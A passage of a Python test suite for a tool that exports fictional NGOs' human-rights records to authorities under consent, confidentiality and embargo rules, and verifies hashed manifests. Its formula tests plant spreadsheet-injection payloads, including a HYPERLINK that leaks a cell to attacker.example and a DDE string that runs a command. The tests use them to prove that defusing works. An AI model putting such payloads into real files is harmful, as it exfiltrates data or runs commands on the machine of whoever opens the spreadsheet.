"""Case files: each NGO's promises kept, every record counted, every file hashed, formulas defused, bad requests refused.

The synthetic store has six fictional NGOs with known terms (workbench/synth/profiles.py): ALPHA
allows DE-GBA and asks first for FR-PNAT; BAYAN allows SE-SPA and asks first for DE-GBA; GAMMA's
submission is under source confidentiality although it lists NL-OM as allowed; DELTA allows NL-OM;
EPSILON allows FR-PNAT after an embargo ending 2025-06-30 and refuses US-DOJ; ZETA allows CH-OAG.
The expectations below are written from those terms by hand, not computed by the code under test.
"""

from __future__ import annotations

import csv
import html
import json
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pypdfium2 as pdfium
import pytest

import workbench.casefile.index
import workbench.casefile.package
from tests.conftest import copy_store
from workbench.audit import exports, withdrawal_flags
from workbench.casefile import preview, saved_query, verify_casefile, write_casefile
from workbench.casefile.spreadsheet import FORMULA_STARTS, csv_column_sql, neutralise
from workbench.disclosure import record_update
from workbench.errors import ConfigError, ReportError, WorkbenchError
from workbench.store import open_store
from workbench.views.selection import Selection

ON = date(2025, 7, 1)  # the day after EPSILON's embargo ends
CONFIDENTIAL_NGO = "GAMMA"
#: Whose records each authority may receive on ON, read by hand from the NGOs' terms.
EXPECTED_NGOS: dict[str, set[str]] = {
    "DE-GBA": {"ALPHA"},  # BAYAN asked to be consulted first
    "NL-OM": {"DELTA"},  # GAMMA lists NL-OM as allowed, but its source is confidential
    "FR-PNAT": {"EPSILON"},  # ALPHA asked to be consulted first
    "SE-SPA": {"BAYAN"},
    "CH-OAG": {"ZETA"},
    "US-DOJ": set(),  # EPSILON said no; the others' defaults are not_allowed or ask_first
    "XX-NOBODY": set(),  # an authority no NGO names
}
AUTHORITIES = list(EXPECTED_NGOS)
FULL = "NL-OM"  # the one package written with its PDF index and interactive map and timeline
NGO_IDS = ("ALPHA", "BAYAN", "GAMMA", "DELTA", "EPSILON", "ZETA")
RECORD_TYPES = ("incidents", "sources", "actors", "incident_actors", "persons", "incident_persons")
KEYS = {"incidents": ("incident_id",), "sources": ("source_id",), "actors": ("actor_id",), "persons": ("person_id",),
        "incident_actors": ("incident_id", "actor_id"), "incident_persons": ("incident_id", "person_id")}


@pytest.fixture(scope="module")
def cf_store(synthetic, tmp_path_factory):
    """A writable copy of the synthetic store, shared by the tests that only add case files to it."""
    with open_store(copy_store(synthetic[0], tmp_path_factory.mktemp("casefile-store")), user="casefile-test") as store:
        yield store


@pytest.fixture
def fresh_store(synthetic, tmp_path):
    """A copy of its own, for a test that changes terms or plants values."""
    with open_store(copy_store(synthetic[0], tmp_path / "store"), user="casefile-test") as store:
        yield store


@pytest.fixture(scope="module")
def packages(cf_store, tmp_path_factory):
    """One case file per authority, decided on ON; only the NL-OM one has its PDF, map and timeline."""
    root = tmp_path_factory.mktemp("casefiles")
    return {authority: write_casefile(cf_store, authority, root / authority, on=ON, pdf=authority == FULL,
                                      interactive=authority == FULL)
            for authority in AUTHORITIES}


# -- reading a package back -------------------------------------------------------------------

def pdf_text(path: Path) -> str:
    document = pdfium.PdfDocument(path)
    try:
        return "\n".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    finally:
        document.close()


def parquet_text(path: Path) -> str:
    values = []
    for row in pl.read_parquet(path).iter_rows():
        for value in row:
            values += [str(v) for v in value] if isinstance(value, list) else [str(value)]
    return "\n".join(values)


def package_texts(directory: Path) -> dict[str, str]:
    """Every file of a package as the text a reader could get out of it (HTML entities decoded)."""
    texts = {}
    for path in sorted(p for p in directory.rglob("*") if p.is_file()):
        name = path.relative_to(directory).as_posix()
        if path.suffix == ".parquet":
            texts[name] = parquet_text(path)
        elif path.suffix == ".pdf":
            texts[name] = pdf_text(path)
        else:
            texts[name] = html.unescape(path.read_text(encoding="utf-8"))
    return texts


def squeezed(text: str) -> str:
    """Text without whitespace; a PDF breaks lines (and marks a broken hyphen as U+FFFE) where it likes."""
    return re.sub(r"\s+", "", text.replace("\ufffe", "-"))


def names_ngo(text: str, ngo_id: str) -> bool:
    """Whether the NGO id occurs as a word (a script's EDGE_GAMMA constant is not the NGO)."""
    return re.search(rf"(?<![A-Za-z0-9_]){ngo_id}(?![A-Za-z0-9_])", text) is not None


def data(directory: Path, record_type: str) -> pl.DataFrame:
    return pl.read_parquet(directory / "data" / f"{record_type}.parquet")


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def keys(frame: pl.DataFrame, *columns: str) -> set[tuple]:
    return set(frame.select("ngo_id", *columns).iter_rows())


def store_keys(store, sql: str) -> set[tuple]:
    return set(store.con.execute(sql).fetchall())


def markers(store, ngo_id: str) -> dict[str, set[str]]:
    """Strings only this NGO's records hold (none occurs in any other NGO's text), by kind."""
    own = store.con.execute(f"""
        SELECT 'incident id', incident_id FROM active.incidents WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'title', title FROM active.incidents WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'narrative', narrative FROM active.incidents WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'pseudonym', pseudonym FROM active.persons WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'person id', person_id FROM active.persons WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'source id', source_id FROM active.sources WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'source description', description FROM active.sources WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'source url', url FROM active.sources WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'link description', description FROM active.incident_persons WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'file name', source_file FROM active.incidents WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'NGO name', name FROM ngos WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'submission', submission_ref FROM submissions WHERE ngo_id = '{ngo_id}'
        UNION ALL SELECT 'package hash', package_sha256 FROM submissions WHERE ngo_id = '{ngo_id}'""").fetchall()
    others = "\n".join(str(v) for (v,) in store.con.execute(f"""
        SELECT concat_ws(' ', incident_id, title, narrative, place, source_file) FROM active.incidents WHERE ngo_id <> '{ngo_id}'
        UNION ALL SELECT concat_ws(' ', person_id, pseudonym, notes) FROM active.persons WHERE ngo_id <> '{ngo_id}'
        UNION ALL SELECT concat_ws(' ', source_id, description, url) FROM active.sources WHERE ngo_id <> '{ngo_id}'
        UNION ALL SELECT concat_ws(' ', description) FROM active.incident_persons WHERE ngo_id <> '{ngo_id}'
        UNION ALL SELECT concat_ws(' ', name, name_ar) FROM active.actors WHERE ngo_id <> '{ngo_id}'
        UNION ALL SELECT concat_ws(' ', name, submission_ref, package_sha256) FROM ngos JOIN submissions USING (ngo_id)
                  WHERE ngo_id <> '{ngo_id}'""").fetchall())
    found: dict[str, set[str]] = {}
    for kind, text in own:
        if text and len(text) >= 6 and text not in others:
            found.setdefault(kind, set()).add(text)
    return found


@pytest.fixture(scope="module")
def confidential_markers(cf_store) -> dict[str, set[str]]:
    found = markers(cf_store, CONFIDENTIAL_NGO)
    # the check means something only if it looks for every kind of content the NGO sent (its source
    # descriptions are generic phrases other NGOs use too, so its source ids and URLs stand for them)
    assert {"incident id", "title", "narrative", "pseudonym", "person id", "source id", "source url", "NGO name",
            "package hash"} <= set(found), found.keys()
    return found


# -- 1. the promises -----------------------------------------------------------------------------

def leaks(texts: dict[str, str], found: dict[str, set[str]], ngo_id: str) -> list[str]:
    problems = []
    for name, text in texts.items():
        if names_ngo(text, ngo_id):
            problems.append(f"{name} names {ngo_id}")
        if name.endswith(".pdf"):  # compare without the line breaks the PDF put in
            text, values_as = squeezed(text), squeezed
        else:
            values_as = str
        for kind, values in found.items():
            hits = [v for v in values if values_as(v) in text]
            if hits:
                problems.append(f"{name} holds {len(hits)} {kind}(s) of {ngo_id}, e.g. {sorted(hits)[0]!r}")
    return problems


@pytest.mark.parametrize("authority", AUTHORITIES)
def test_nothing_from_the_source_confidential_ngo_is_in_any_file(packages, confidential_markers, authority):
    directory = packages[authority].directory
    texts = package_texts(directory)
    expected = {"index.html", "manifest.json", "withheld.csv", "SHA256SUMS"} | {f"data/{t}.{x}" for t in RECORD_TYPES for x in ("csv", "parquet")}
    if authority == FULL:
        expected |= {"index.pdf", "map.html", "timeline.html"}
    assert set(texts) == expected
    assert leaks(texts, confidential_markers, CONFIDENTIAL_NGO) == []


def test_the_leak_check_finds_what_was_disclosed(packages, cf_store):
    """The same check, on the NGO NL-OM may receive, finds its records in every kind of file: it can fail."""
    written = packages[FULL]
    texts = package_texts(written.directory)
    found = markers(cf_store, "DELTA")
    flagged = {problem.split(" ")[0] for problem in leaks(texts, found, "DELTA")}
    assert {"data/incidents.csv", "data/incidents.parquet", "data/persons.csv", "data/persons.parquet", "index.html",
            "index.pdf", "timeline.html", "manifest.json"} <= flagged
    # the map shows places and counts, not ids: every disclosed incident is counted on it, and no other
    shown = int(re.search(r"(\d+) incidents on the map", texts["map.html"]).group(1))
    unplaced = re.search(r"(\d+) incidents? without a usable place", texts["map.html"])
    assert shown + (int(unplaced.group(1)) if unplaced else 0) == written.plan.disclosed("incidents")


@pytest.mark.parametrize("authority", AUTHORITIES)
def test_only_the_ngos_that_allowed_the_authority_are_in_the_package(packages, authority):
    directory = packages[authority].directory
    present = set()
    for record_type in RECORD_TYPES:
        present |= set(data(directory, record_type)["ngo_id"])
        present |= {row["ngo_id"] for row in csv_rows(directory / "data" / f"{record_type}.csv")}
    assert present == EXPECTED_NGOS[authority]
    assert {n["ngo_id"] for n in json.loads((directory / "manifest.json").read_text(encoding="utf-8"))["ngos"]} == EXPECTED_NGOS[authority]


@pytest.mark.parametrize("authority", AUTHORITIES)
def test_no_confidential_record_and_no_person_without_consent(packages, cf_store, authority):
    directory = packages[authority].directory
    for record_type in ("incidents", "sources"):
        frame = data(directory, record_type)
        assert not frame["confidential_source"].fill_null(False).any()
        confidential = store_keys(cf_store, f"SELECT ngo_id, {KEYS[record_type][0]} FROM active.{record_type} WHERE confidential_source")
        assert confidential and not keys(frame, *KEYS[record_type]) & confidential
    persons = data(directory, "persons")
    assert set(persons["consent"]) <= {"given"}
    without_consent = store_keys(cf_store, "SELECT ngo_id, person_id FROM active.persons WHERE consent IS DISTINCT FROM 'given'")
    assert without_consent and not keys(persons, "person_id") & without_consent
    assert not keys(data(directory, "incident_persons"), "person_id") & without_consent


@pytest.mark.parametrize("authority", AUTHORITIES)
def test_links_never_reference_a_record_outside_the_package(packages, authority):
    directory = packages[authority].directory
    incidents = keys(data(directory, "incidents"), "incident_id")
    persons = keys(data(directory, "persons"), "person_id")
    actors = data(directory, "actors")
    person_links = data(directory, "incident_persons")
    actor_links = data(directory, "incident_actors")
    assert keys(data(directory, "sources"), "incident_id") <= incidents
    assert keys(person_links, "incident_id") <= incidents
    assert keys(person_links, "person_id") <= persons
    assert keys(actor_links, "incident_id") <= incidents
    assert keys(actor_links, "actor_id") <= keys(actors, "actor_id")
    # a person goes only with one of its links; an actor only with a link or as a unit above one
    assert persons == keys(person_links, "person_id")
    parents = {(n, a): p for n, a, p in actors.select("ngo_id", "actor_id", "parent_id").iter_rows() if p}
    reached = set(keys(actor_links, "actor_id"))
    frontier = set(reached)
    while frontier:
        frontier = {(n, parents[(n, a)]) for n, a in frontier if (n, a) in parents} - reached
        reached |= frontier
    assert keys(actors, "actor_id") == reached


def test_records_linked_only_to_withheld_incidents_are_withheld(packages, cf_store):
    """ALPHA may go to DE-GBA, but not its confidential incidents, nor what hangs only on them."""
    written = packages["DE-GBA"]
    orphans = store_keys(cf_store, """
        SELECT s.ngo_id, s.source_id FROM active.sources s JOIN active.incidents i USING (ngo_id, incident_id)
        WHERE s.ngo_id = 'ALPHA' AND i.confidential_source AND NOT coalesce(s.confidential_source, FALSE)""")
    lonely = store_keys(cf_store, """
        SELECT p.ngo_id, p.person_id FROM active.persons p
        JOIN active.incident_persons l USING (ngo_id, person_id) JOIN active.incidents i USING (ngo_id, incident_id)
        WHERE p.ngo_id = 'ALPHA' AND p.consent = 'given' GROUP BY ALL HAVING bool_and(coalesce(i.confidential_source, FALSE))""")
    assert orphans and lonely  # the synthetic data has both; otherwise this test shows nothing
    assert not keys(data(written.directory, "sources"), "source_id") & orphans
    assert not keys(data(written.directory, "persons"), "person_id") & lonely
    reasons = written.plan.withheld.filter(pl.col("reason") == "linked_record_withheld")
    assert reasons.filter(pl.col("record_type") == "sources")["records"].sum() == len(orphans)
    assert reasons.filter(pl.col("record_type") == "persons")["records"].sum() == len(lonely)


def test_a_person_link_goes_only_with_its_incident_and_its_person(packages, cf_store):
    written = packages["DE-GBA"]
    incidents = keys(data(written.directory, "incidents"), "incident_id")
    # links from a disclosed incident to a person who withdrew consent or never gave it
    unconsented = store_keys(cf_store, """
        SELECT l.ngo_id, l.incident_id, l.person_id FROM active.incident_persons l JOIN active.persons p USING (ngo_id, person_id)
        WHERE l.ngo_id = 'ALPHA' AND p.consent <> 'given'""")
    from_disclosed = {k for k in unconsented if (k[0], k[1]) in incidents}
    assert from_disclosed
    assert not keys(data(written.directory, "incident_persons"), "incident_id", "person_id") & unconsented


def test_ask_first_records_go_only_after_the_ngo_agreed(fresh_store, tmp_path):
    before = write_casefile(fresh_store, "FR-PNAT", tmp_path / "before", on=ON, pdf=False, interactive=False)
    assert "ALPHA" not in set(data(before.directory, "incidents")["ngo_id"])
    assert before.plan.withheld.filter((pl.col("ngo_id") == "ALPHA") & (pl.col("reason") == "ask_first")).height
    record_update(fresh_store, "ALPHA", "fr-pnat (Paris)", "agreed", reference="letter of 3 March")
    # an agreement lifts "ask first" only: never source confidentiality, nor a refusal
    record_update(fresh_store, "GAMMA", "NL-OM", "agreed")
    record_update(fresh_store, "EPSILON", "US-DOJ", "agreed")
    after = write_casefile(fresh_store, "FR-PNAT", tmp_path / "after", on=ON, pdf=False, interactive=False)
    alpha = set(data(after.directory, "incidents").filter(pl.col("ngo_id") == "ALPHA")["incident_id"])
    expected = {i for (i,) in fresh_store.con.execute(
        "SELECT incident_id FROM active.incidents WHERE ngo_id = 'ALPHA' AND NOT coalesce(confidential_source, FALSE)").fetchall()}
    assert alpha == expected
    nl = write_casefile(fresh_store, "NL-OM", tmp_path / "nl", on=ON, pdf=False, interactive=False)
    assert leaks(package_texts(nl.directory), markers(fresh_store, CONFIDENTIAL_NGO), CONFIDENTIAL_NGO) == []
    us = preview(fresh_store, "US-DOJ", on=ON)
    assert us.disclosed("incidents") == 0
    assert set(us.withheld.filter(pl.col("ngo_id") == "EPSILON")["reason"]) == {"not_allowed"}


def test_a_withdrawal_flags_earlier_exports_and_withholds_from_then_on(fresh_store, tmp_path):
    earlier = write_casefile(fresh_store, "DE-GBA", tmp_path / "earlier", on=ON, pdf=False, interactive=False)
    other = write_casefile(fresh_store, "SE-SPA", tmp_path / "other", on=ON, pdf=False, interactive=False)
    carried = int(earlier.plan.counts["disclosed"].sum())
    assert carried and set(data(earlier.directory, "incidents")["ngo_id"]) == {"ALPHA"}

    recorded = record_update(fresh_store, "ALPHA", "DE-GBA", "withdrawn", reference="e-mail of 9 May")
    assert recorded.flagged_exports["export_id"].to_list() == [earlier.casefile_id]
    flags = withdrawal_flags(fresh_store, export_id=earlier.casefile_id)
    assert flags.select("ngo_id", "records_affected", "reference").rows() == [("ALPHA", carried, "e-mail of 9 May")]
    listing = {row["export_id"]: row["withdrawals"] for row in exports(fresh_store).iter_rows(named=True)}
    assert listing[earlier.casefile_id].startswith("ALPHA withdrew on")
    assert listing[other.casefile_id] is None
    assert verify_casefile(earlier.directory, fresh_store).ok  # flagged, never rewritten

    later = write_casefile(fresh_store, "DE-GBA", tmp_path / "later", on=ON, pdf=False, interactive=False)
    assert later.plan.disclosed("incidents") == 0
    assert all(data(later.directory, t).height == 0 for t in RECORD_TYPES)
    alpha = later.plan.withheld.filter(pl.col("ngo_id") == "ALPHA")
    assert "agreement_withdrawn" in set(alpha["reason"])
    assert set(alpha["reason"]) <= {"agreement_withdrawn", "confidential_source", "linked_record_withheld"}
    withheld = pl.read_csv(later.directory / "withheld.csv")
    assert withheld.filter(pl.col("reason") == "agreement_withdrawn")["records"].sum() > 0
    assert withdrawal_flags(fresh_store, export_id=later.casefile_id).height == 0
    assert fresh_store.custody_problems() == []


def test_an_embargo_withholds_until_its_day(cf_store, tmp_path):
    epsilon = cf_store.con.execute("SELECT count(*) FROM active.incidents WHERE ngo_id = 'EPSILON'").fetchone()[0]
    before = write_casefile(cf_store, "FR-PNAT", tmp_path / "before", on=date(2025, 6, 29), pdf=False, interactive=False)
    on_the_day = write_casefile(cf_store, "FR-PNAT", tmp_path / "on", on=date(2025, 6, 30), pdf=False, interactive=False)
    assert data(before.directory, "incidents").height == 0
    reasons = before.plan.withheld.filter((pl.col("ngo_id") == "EPSILON") & (pl.col("record_type") == "incidents"))
    assert reasons.select("reason", "records").rows() == [("embargo", epsilon)]
    assert set(data(on_the_day.directory, "incidents")["ngo_id"]) == {"EPSILON"}
    assert data(on_the_day.directory, "incidents").height == epsilon
    # only persons who gave consent follow their incidents
    assert set(data(on_the_day.directory, "persons")["consent"]) == {"given"}


# -- 2. counts -----------------------------------------------------------------------------------

@pytest.mark.parametrize("authority", AUTHORITIES)
def test_the_files_hold_exactly_the_counted_records(packages, authority):
    written = packages[authority]
    directory = written.directory
    manifest = json.loads((directory / "manifest.json").read_text(encoding="utf-8"))
    rows = {f["path"]: f["rows"] for f in manifest["files"]}
    withheld = pl.read_csv(directory / "withheld.csv")
    for record_type, disclosed, held in written.plan.counts.iter_rows():
        assert data(directory, record_type).height == disclosed, record_type
        assert len(csv_rows(directory / "data" / f"{record_type}.csv")) == disclosed, record_type
        assert rows[f"data/{record_type}.csv"] == rows[f"data/{record_type}.parquet"] == disclosed
        assert manifest["records"][record_type] == disclosed
        assert withheld.filter(pl.col("record_type") == record_type)["records"].sum() == held, record_type
    assert written.plan.withheld["records"].sum() == withheld["records"].sum() == written.plan.withheld_total()


def scope(store, where: str) -> dict[str, int]:
    """How many rows of each type a selection puts in scope, counted here without the case-file code."""
    con = store.con
    con.execute(f"CREATE OR REPLACE TEMP TABLE t_keys AS SELECT DISTINCT ngo_id, incident_id FROM active.incidents i WHERE {where}")
    counts = {
        "incidents": con.execute(f"SELECT count(*) FROM active.incidents i WHERE {where}").fetchone()[0],
        "sources": con.execute("SELECT count(*) FROM active.sources JOIN t_keys USING (ngo_id, incident_id)").fetchone()[0],
        "incident_persons": con.execute("SELECT count(*) FROM active.incident_persons JOIN t_keys USING (ngo_id, incident_id)").fetchone()[0],
        "persons": con.execute("""SELECT count(*) FROM active.persons p WHERE EXISTS (SELECT 1 FROM active.incident_persons l
            JOIN t_keys USING (ngo_id, incident_id) WHERE l.ngo_id = p.ngo_id AND l.person_id = p.person_id)""").fetchone()[0],
        "incident_actors": con.execute("SELECT count(*) FROM active.incident_actors JOIN t_keys USING (ngo_id, incident_id)").fetchone()[0],
    }
    linked = set(con.execute("SELECT ngo_id, actor_id FROM active.incident_actors JOIN t_keys USING (ngo_id, incident_id)").fetchall())
    parents = {(n, a): p for n, a, p in con.execute("SELECT ngo_id, actor_id, parent_id FROM active.actors").fetchall() if p}
    frontier = set(linked)
    while frontier:
        frontier = {(n, parents[(n, a)]) for n, a in frontier if (n, a) in parents} - linked
        linked |= frontier
    counts["actors"] = sum(1 for row in con.execute("SELECT ngo_id, actor_id FROM active.actors").fetchall() if row in linked)
    return counts


@pytest.mark.parametrize("authority, selection, where", [
    ("DE-GBA", Selection(), "TRUE"),
    ("CH-OAG", Selection(), "TRUE"),
    ("DE-GBA", Selection.parse(ngos=["ALPHA", "GAMMA", "ZETA"]), "i.ngo_id IN ('ALPHA', 'GAMMA', 'ZETA')"),
    ("NL-OM", Selection.parse(period="2013"),
     "i.date_start <= DATE '2013-12-31' AND coalesce(i.date_end, i.date_start) >= DATE '2013-01-01'"),
])
def test_disclosed_and_withheld_add_up_to_the_scope(cf_store, authority, selection, where):
    plan = preview(cf_store, authority, selection, on=ON)
    expected = scope(cf_store, where)
    assert expected["incidents"] and expected["actors"]
    assert {t: d + w for t, d, w in plan.counts.iter_rows()} == expected
    by_type = plan.withheld.group_by("record_type").agg(pl.col("records").sum())
    assert dict(by_type.iter_rows()) == {t: w for t, _, w in plan.counts.iter_rows() if w}


@pytest.mark.parametrize("authority", ["DE-GBA", FULL])
def test_the_withheld_summary_holds_counts_and_reasons_only(packages, cf_store, authority):
    directory = packages[authority].directory
    text = (directory / "withheld.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == "record_type,reason,explanation,records"
    assert not [n for n in NGO_IDS if names_ngo(text, n)]
    ids = {v for (v,) in cf_store.con.execute(
        "SELECT incident_id FROM active.incidents UNION SELECT person_id FROM active.persons UNION SELECT pseudonym FROM active.persons "
        "UNION SELECT source_id FROM active.sources").fetchall() if v}
    assert not [v for v in ids if v in text]
    assert not names_ngo(json.dumps(json.loads((directory / "manifest.json").read_text())["withheld"]), CONFIDENTIAL_NGO)


# -- 3. the manifest -----------------------------------------------------------------------------

@pytest.fixture
def package_copy(packages, tmp_path):
    """A copy of the DE-GBA package to tamper with (its id is still the one logged)."""
    return Path(shutil.copytree(packages["DE-GBA"].directory, tmp_path / "copy"))


def test_a_fresh_package_verifies_with_and_without_the_store(packages, cf_store):
    for written in packages.values():
        alone = verify_casefile(written.directory)
        assert alone.ok and alone.logged is None, alone.problems
        checked = verify_casefile(written.directory, cf_store)
        assert checked.ok and checked.logged is True, checked.problems
        assert checked.casefile_id == written.casefile_id
        assert checked.files_checked == len(written.files)


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="sha256sum is not installed")
def test_sha256sum_checks_a_package_without_the_workbench(packages):
    result = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=packages[FULL].directory, capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "manifest.json: OK" in result.stdout and "index.pdf: OK" in result.stdout


def flip_a_byte(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 0x01
    path.write_bytes(bytes(content))


def test_a_changed_byte_is_found(package_copy, cf_store):
    flip_a_byte(package_copy / "data" / "incidents.csv")
    for check in (verify_casefile(package_copy), verify_casefile(package_copy, cf_store)):
        assert not check.ok
        assert check.problems == ["data/incidents.csv no longer matches its SHA-256 in the manifest: it was changed"]


def test_a_removed_or_added_file_is_found(package_copy):
    (package_copy / "data" / "persons.parquet").unlink()
    (package_copy / "data" / "extra.csv").write_text("ngo_id\nGAMMA\n", encoding="utf-8")
    problems = verify_casefile(package_copy).problems
    assert any("data/persons.parquet" in p and "missing" in p for p in problems)
    assert any("data/extra.csv" in p and "added" in p for p in problems)
    assert len(problems) == 2


def rewrite_manifest(directory: Path, change, *, update_sums: bool) -> None:
    import hashlib

    path = directory / "manifest.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    change(manifest)
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    path.write_text(text, encoding="utf-8")
    if update_sums:
        sums = directory / "SHA256SUMS"
        lines = [line for line in sums.read_text(encoding="ascii").splitlines() if not line.endswith("  manifest.json")]
        lines.append(f"{hashlib.sha256(text.encode()).hexdigest()}  manifest.json")
        sums.write_text("\n".join(lines) + "\n", encoding="ascii")


def test_a_changed_manifest_is_not_the_logged_one(package_copy, cf_store):
    def widen(manifest):
        manifest["authority"] = "US-DOJ"

    rewrite_manifest(package_copy, widen, update_sums=True)
    assert verify_casefile(package_copy).ok  # consistent in itself: only the custody log can tell
    check = verify_casefile(package_copy, cf_store)
    assert check.logged is False
    assert any("not the manifest logged" in p for p in check.problems)


def test_a_changed_manifest_disagrees_with_sha256sums(package_copy):
    rewrite_manifest(package_copy, lambda m: m.update(authority="US-DOJ"), update_sums=False)
    check = verify_casefile(package_copy)
    assert any("SHA256SUMS does not agree with the manifest" in p for p in check.problems)


def test_a_manifest_path_leaving_the_package_is_refused(package_copy, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("not part of the package\n", encoding="utf-8")

    def escape(manifest):
        manifest["files"].append({"path": "../outside.txt", "bytes": outside.stat().st_size, "sha256": "0" * 64, "rows": None})

    rewrite_manifest(package_copy, escape, update_sums=True)
    problems = verify_casefile(package_copy).problems
    assert any("'../outside.txt'" in p and "not a path inside the package" in p for p in problems)


def test_a_folder_without_a_manifest_is_named(tmp_path):
    folder = tmp_path / "not-a-casefile"
    folder.mkdir()
    (folder / "data.csv").write_text("a\n1\n", encoding="utf-8")
    with pytest.raises(WorkbenchError, match=re.escape(str(folder))):
        verify_casefile(folder)
    with pytest.raises(WorkbenchError, match="not a folder"):
        verify_casefile(tmp_path / "nowhere")
    (folder / "manifest.json").write_text('{"format": "workbench-casefile/1", "files": [', encoding="utf-8")
    with pytest.raises(WorkbenchError, match="not a readable manifest"):
        verify_casefile(folder)


def test_a_package_another_store_never_logged_is_not_vouched_for(packages, synth_store):
    check = verify_casefile(packages["DE-GBA"].directory, synth_store)
    assert check.logged is False
    assert check.problems == [f"case file {packages['DE-GBA'].casefile_id} is not in this store's export log"]


# -- 4. formulas ---------------------------------------------------------------------------------

def starts_a_formula(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_STARTS


PLANTED = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"open")',
    "narrative": "+1 and more",
    "place": "-cmd|' /C calc'!A0",
}
PLANTED_2 = {"title": "@SUM(A1:A9)", "narrative": "\tX", "place": "\uff1d1+1"}


def test_formulas_are_defused_in_csv_and_xlsx_and_kept_in_parquet(fresh_store, tmp_path):
    chosen = [i for (i,) in fresh_store.con.execute(
        "SELECT incident_id FROM active.incidents WHERE ngo_id = 'ALPHA' AND NOT coalesce(confidential_source, FALSE) "
        "ORDER BY incident_id LIMIT 2").fetchall()]
    for incident_id, values in zip(chosen, (PLANTED, PLANTED_2)):
        fresh_store.con.execute("UPDATE incidents SET title = ?, narrative = ?, place = ? WHERE ngo_id = 'ALPHA' AND incident_id = ?",
                                [values["title"], values["narrative"], values["place"], incident_id])
    written = write_casefile(fresh_store, "DE-GBA", tmp_path / "cf", Selection.parse(ngos=["ALPHA"]), on=ON, xlsx=True,
                             pdf=False, interactive=False)
    csv_by_id = {row["incident_id"]: row for row in csv_rows(written.directory / "data" / "incidents.csv")}
    parquet_by_id = {row["incident_id"]: row for row in data(written.directory, "incidents").iter_rows(named=True)}
    for incident_id, values in zip(chosen, (PLANTED, PLANTED_2)):
        for column, value in values.items():
            assert csv_by_id[incident_id][column] == "'" + value
            assert parquet_by_id[incident_id][column] == value
        assert int(csv_by_id[incident_id]["killed"]) == parquet_by_id[incident_id]["killed"]

    book = openpyxl.load_workbook(written.directory / "data" / "casefile.xlsx")
    assert book.sheetnames == list(RECORD_TYPES)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not starts_a_formula(cell.value), (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {"'" + v for values in (PLANTED, PLANTED_2) for v in values.values()} <= seen
    sheet = book["incidents"]
    header = [c.value for c in sheet[1]]
    numbers = [row[header.index("killed")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers and all(isinstance(n, int) for n in numbers if n is not None)
    assert verify_casefile(written.directory, fresh_store).ok


def test_a_control_character_does_not_stop_the_workbook(fresh_store, tmp_path):
    incident_id = fresh_store.con.execute("SELECT min(incident_id) FROM active.incidents WHERE ngo_id = 'ALPHA' "
                                          "AND NOT coalesce(confidential_source, FALSE)").fetchone()[0]
    fresh_store.con.execute("UPDATE incidents SET narrative = 'Shelling' || chr(11) || 'of the market' "
                            "WHERE ngo_id = 'ALPHA' AND incident_id = ?", [incident_id])
    try:
        written = write_casefile(fresh_store, "DE-GBA", tmp_path / "cf", Selection.parse(ngos=["ALPHA"]), on=ON, xlsx=True,
                                 pdf=False, interactive=False)
    except WorkbenchError as exc:  # refusing is acceptable, if the message names the record and not its text
        assert "Shelling" not in str(exc) and incident_id in str(exc)
        return
    sheet = openpyxl.load_workbook(written.directory / "data" / "casefile.xlsx")["incidents"]
    header = [c.value for c in sheet[1]]
    narratives = {row[header.index("incident_id")]: row[header.index("narrative")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert narratives[incident_id].startswith("Shelling") and "\x0b" not in narratives[incident_id]


@pytest.mark.parametrize("authority", AUTHORITIES)
def test_no_csv_text_cell_starts_a_formula(packages, authority):
    directory = packages[authority].directory
    for record_type in RECORD_TYPES:
        schema = pl.read_parquet_schema(directory / "data" / f"{record_type}.parquet")
        text_columns = [c for c, t in schema.items() if t == pl.String or isinstance(t, pl.List)]
        for row in csv_rows(directory / "data" / f"{record_type}.csv"):
            for column in text_columns:
                assert not starts_a_formula(row[column]), (record_type, column, row[column])


def test_the_planted_formula_in_the_synthetic_data_arrives_defused(packages):
    """ZETA sent a title that is a formula; CH-OAG receives it as text."""
    titles = {row["title"] for row in csv_rows(packages["CH-OAG"].directory / "data" / "incidents.csv")}
    assert '\'=HYPERLINK("https://example.org/zeta/video","watch")' in titles
    assert '=HYPERLINK("https://example.org/zeta/video","watch")' in set(data(packages["CH-OAG"].directory, "incidents")["title"])


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tX", "'\tX"), ("\rX", "'\rX"),
    ("\uff1dA1", "'\uff1dA1"), ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff20x", "'\uff20x"),
